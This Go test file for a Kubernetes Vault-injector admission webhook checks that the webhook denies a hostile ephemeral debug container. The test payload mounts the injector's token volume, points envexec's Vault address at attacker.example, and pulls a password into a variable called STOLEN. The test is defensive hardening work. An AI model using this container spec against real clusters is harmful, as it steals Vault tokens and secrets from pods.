package webhook_test

import (
	"bytes"
	"strings"
	"testing"

	admissionv1 "k8s.io/api/admission/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
)

// TestEphemeralContainerMayNotReachOurParts (found by attacking the first version) adds, to a running injected pod, an ephemeral
// container (kubectl debug; the pods/ephemeralcontainers subresource, an UPDATE) that mounts
// the injector's token volume and runs envexec with a Vault address of its own choosing.
// docs/security.md says the token "is mounted only into wrapped containers" and a container
// that "mounts our volumes ... or whose command is envexec, is denied": the webhook answers
// every UPDATE "only pod creation is mutated", and the chart registers CREATE on pods only,
// so this request is never even sent to it.
func TestEphemeralContainerMayNotReachOurParts(t *testing.T) {
	t.Parallel()
	h, _ := newHandler(t)
	raw := []byte(`{"apiVersion":"v1","kind":"Pod","metadata":{"name":"api","namespace":"shop",
 "annotations":{"vault-injector.io/status":"injected"}},
 "spec":{"serviceAccountName":"api","containers":[{"name":"api","image":"example/api:1","command":["/app/api"]}],
 "volumes":[{"name":"vault-injector-bin","emptyDir":{"medium":"Memory"}},
  {"name":"vault-injector-token","projected":{"sources":[{"serviceAccountToken":{"audience":"vault","path":"token"}}]}}],
 "ephemeralContainers":[{"name":"debug","image":"example/tools:1",
  "command":["/vault-injector/envexec","--","/bin/sh"],
  "env":[{"name":"ENVEXEC_VAULT_ADDR","value":"http://attacker.example"}],
  "volumeMounts":[{"name":"vault-injector-token","mountPath":"/peek"},{"name":"vault-injector-bin","mountPath":"/vault-injector"}]}]}}`)
	req := request(admissionv1.Update, raw)
	req.SubResource = "ephemeralcontainers"
	req.Kind = metav1.GroupVersionKind{Version: "v1", Kind: "Pod"}
	resp := h.Handle(t.Context(), req)
	if resp.Allowed {
		t.Fatalf("an ephemeral container mounting the injector's token volume and running envexec was allowed (%q)", resp.Result.Message)
	}
	if want := `pod "shop/api": container "debug": ephemeral container: it mounts the injector's volume vault-injector-token`; !strings.Contains(resp.Result.Message, want) {
		t.Errorf("message %q, want it to contain %q", resp.Result.Message, want)
	}
	// A debug container that leaves our parts alone is let through unchanged.
	plain := bytes.Replace(raw, []byte(`"command":["/vault-injector/envexec","--","/bin/sh"]`), []byte(`"command":["/bin/sh"]`), 1)
	plain = bytes.Replace(plain, []byte(`"volumeMounts":[{"name":"vault-injector-token","mountPath":"/peek"},{"name":"vault-injector-bin","mountPath":"/vault-injector"}]`), []byte(`"volumeMounts":[]`), 1)
	req.Object.Raw = plain
	if resp := h.Handle(t.Context(), req); !resp.Allowed || len(resp.Patch) != 0 {
		t.Errorf("a plain debug container: allowed=%v patch=%s (%v)", resp.Allowed, resp.Patch, resp.Result)
	}
	// Nor may it read a file of our volumes into its environment: the kubelet reads
	// fileKeyRef from any emptyDir of the pod, mounted into the container or not.
	req.Object.Raw = bytes.Replace(plain, []byte(`"env":[{"name":"ENVEXEC_VAULT_ADDR","value":"http://attacker.example"}]`),
		[]byte(`"env":[{"name":"STOLEN","valueFrom":{"fileKeyRef":{"volumeName":"vault-injector-files-0","path":"db.env","key":"PASSWORD"}}}]`), 1)
	resp = h.Handle(t.Context(), req)
	if want := `container "debug": ephemeral container: its variable STOLEN reads a file of the injector's volume vault-injector-files-0 (fileKeyRef)`; resp.Allowed || !strings.Contains(resp.Result.Message, want) {
		t.Errorf("a debug container reading our files volume: allowed=%v %q, want denied with %q", resp.Allowed, resp.Result.Message, want)
	}
}
